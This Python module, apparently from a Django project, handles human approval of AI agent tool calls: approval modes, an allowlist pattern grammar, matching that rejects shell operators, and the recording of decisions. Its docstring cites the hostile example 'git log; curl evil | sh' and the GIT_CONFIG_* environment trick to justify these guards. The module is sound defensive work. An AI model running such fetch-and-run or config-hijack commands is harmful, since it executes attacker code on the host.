"""Human approval of tool calls: when one is needed, the allowlist grammar, and recording decisions.

Per agent, `approval = {"mode": "off"|"on_miss"|"always", "allowlist": [...], "timeout_seconds"?}`:
`off` runs everything the policy allows; `on_miss` asks unless an allowlist pattern matches; `always`
asks for every call. An unknown mode asks (fail closed).

Allowlist patterns say which inputs they cover:

- `*` covers every call, `TOOL` (globs allowed, e.g. `web_*`) every call of a tool, whatever its input;
- `TOOL:GLOB` covers calls whose subject (exec's command, web_fetch's URL, process's action) matches the
  glob and whose input is nothing but the subject: an `env`, `workdir`, `handle` or any other input
  that changes what the call does is not covered (`GIT_CONFIG_*` in env turns `git status` into any
  program). Inputs a tool declares harmless (`ToolSpec.approval_ignores`, e.g. exec's timeout) may vary.
  Because `exec:git *` would also match `git log; curl evil | sh`, an exec glob only matches a single
  simple command: no shell operators, redirections, substitutions or newlines;
- `TOOL:=EXACT` is the same with an exact subject;
- `TOOL:input={JSON}` covers exactly that input (the harmless inputs aside).

"Allow always" writes the narrowest of these that covers exactly the input the approver saw: `TOOL:=EXACT`
when the input was the subject alone, else `TOOL:input={...}`. A call no pattern covers still runs when a
human approves it.

The waiting holds no thread: a call waits as a row; the decision (REST, WebSocket, admin, or expiry
from the workers' housekeeping loop) moves it on. Resolution itself lives in tools.services.
"""

import fnmatch
import json
import logging
from datetime import timedelta

from django.conf import settings
from django.db import transaction
from django.utils import timezone

from beamclaw_project.infra.channel_layer import group_send_later
from sessions import events
from tenants.models import Agent
from tools import registry
from tools.base import ToolSpec
from tools.models import Approval

logger = logging.getLogger(__name__)

APPROVAL_REQUESTED = "approval.requested"
APPROVAL_RESOLVED = "approval.resolved"
# Shell syntax that chains, substitutes or redirects: a glob pattern never vouches for it.
_SHELL_SYNTAX = frozenset(";&|<>`$()\n\r\\")
INPUT_PREFIX = "input="


def tenant_approvals_group(tenant_id) -> str:
    """Channel-layer group told about every approval of a tenant (for WebSocket consumers)."""
    return f"approvals.{tenant_id}"


def covered_input(spec: ToolSpec, tool_input: dict) -> dict:
    """The part of a call's input an approval must cover: everything but the tool's harmless inputs."""
    return {k: v for k, v in tool_input.items() if k not in spec.approval_ignores}


def _subject_alone(covered: dict, subject: str) -> bool:
    """Whether the covered input is the subject and nothing else."""
    return len(covered) == 1 and str(next(iter(covered.values()))) == subject


def _canonical(value) -> str:
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


def pattern_matches(pattern: str, *, spec: ToolSpec, tool_input: dict) -> bool:
    pattern = pattern.strip()
    if pattern == "*":
        return True
    name, sep, argument = pattern.partition(":")
    if not fnmatch.fnmatchcase(spec.name, name):
        return False
    if not sep:
        return True
    covered = covered_input(spec, tool_input)
    if argument.startswith(INPUT_PREFIX):
        try:
            expected = json.loads(argument[len(INPUT_PREFIX):])
        except ValueError:
            return False
        return isinstance(expected, dict) and _canonical(expected) == _canonical(covered)
    subject = spec.subject(tool_input)
    # A subject pattern vouches for the subject only, so the subject must be all there is.
    if not _subject_alone(covered, subject):
        return False
    if argument.startswith("="):
        return subject == argument[1:]
    if spec.subject_is_shell and any(ch in _SHELL_SYNTAX for ch in subject):
        return False
    return fnmatch.fnmatchcase(subject, argument)


def _approval_conf(agent: Agent) -> dict:
    return agent.approval if isinstance(agent.approval, dict) else {"mode": "always"}


def approval_needed(*, agent: Agent, spec: ToolSpec, tool_input: dict) -> bool:
    conf = _approval_conf(agent)
    mode = conf.get("mode", "off")
    if mode == "off":
        return False
    if mode != "on_miss":
        return True
    allowlist = conf.get("allowlist") if isinstance(conf.get("allowlist"), list) else []
    return not any(isinstance(p, str) and pattern_matches(p, spec=spec, tool_input=tool_input) for p in allowlist)


def approval_timeout(agent: Agent) -> float:
    value = _approval_conf(agent).get("timeout_seconds")
    if isinstance(value, (int, float)) and not isinstance(value, bool) and 1 <= value <= 86400:
        return float(value)
    return settings.BEAMCLAW_TOOLS["APPROVAL_TIMEOUT_SECONDS"]


def always_pattern(spec: ToolSpec, tool_input: dict) -> str:
    """The allowlist pattern "allow always" adds: it covers exactly the input the approver saw."""
    covered = covered_input(spec, tool_input)
    if not covered:
        return spec.name
    subject = spec.subject(tool_input)
    if _subject_alone(covered, subject):
        return f"{spec.name}:={subject}"
    return f"{spec.name}:{INPUT_PREFIX}{_canonical(covered)}"


def approval_payload(approval: Approval) -> dict:
    return {
        "approval_id": str(approval.pk),
        "status": approval.status,
        "tool": approval.tool,
        "input": approval.input,
        "subject": approval.subject,
        "session_id": str(approval.session_id) if approval.session_id else None,
        "tool_call_id": approval.tool_call_id,
        "invocation_id": str(approval.invocation_id) if approval.invocation_id else None,
        "expires_at": approval.expires_at.isoformat(),
        "decided_by": approval.decided_by,
        "reason": approval.reason,
    }


def _announce(approval: Approval, event: str, run_id=None) -> None:
    """After commit: the run's event stream (if any) and the tenant's channel-layer group."""
    payload = approval_payload(approval)
    tenant_id = approval.tenant_id

    def send():
        if run_id is not None:
            events.publish(run_id, event, payload)
        # (Sent without waiting; a failure is logged, and must not undo the decision: REST still shows it.)
        group_send_later(tenant_approvals_group(tenant_id), {"type": "approval.event", "event": event, "payload": payload},
                         what=f"approval {payload['approval_id']} {event}")

    transaction.on_commit(send)


def approval_open(*, agent: Agent, spec: ToolSpec, tool_input: dict, session=None, tool_call=None, invocation=None) -> Approval:
    """Record that a call waits for a human (inside the caller's transaction)."""
    approval = Approval.objects.create(
        tenant_id=agent.tenant_id,
        agent=agent,
        session=session,
        tool_call=tool_call,
        invocation=invocation,
        tool=spec.name,
        input=tool_input,
        subject=spec.subject(tool_input),
        expires_at=timezone.now() + timedelta(seconds=approval_timeout(agent)),
    )
    _announce(approval, APPROVAL_REQUESTED, run_id=tool_call.run_id if tool_call is not None else None)
    return approval


def approval_decide_locked(approval: Approval, *, status: str, decided_by: str, always: bool = False, reason: str = "") -> None:
    """Record a decision on a pending approval the caller has locked; "allow always" extends the
    agent's allowlist with an exact pattern for this call's subject."""
    approval.status = status
    approval.decided_by = decided_by[:100]
    approval.reason = reason[:300]
    approval.decided_at = timezone.now()
    approval.always = bool(always and status == Approval.Status.ALLOWED)
    approval.save(update_fields=["status", "decided_by", "reason", "decided_at", "always"])
    spec = registry.registered_tools().get(approval.tool) if approval.always else None
    if spec is not None:
        agent = Agent.objects.select_for_update().get(pk=approval.agent_id)
        conf = dict(agent.approval) if isinstance(agent.approval, dict) else {"mode": "on_miss"}
        allowlist = [p for p in conf.get("allowlist") or [] if isinstance(p, str)]
        pattern = always_pattern(spec, approval.input)
        if pattern not in allowlist:
            conf["allowlist"] = [*allowlist, pattern]
            agent.approval = conf
            agent.save(update_fields=["approval", "updated_at"])
    run_id = approval.tool_call.run_id if approval.tool_call_id else None
    _announce(approval, APPROVAL_RESOLVED, run_id=run_id)
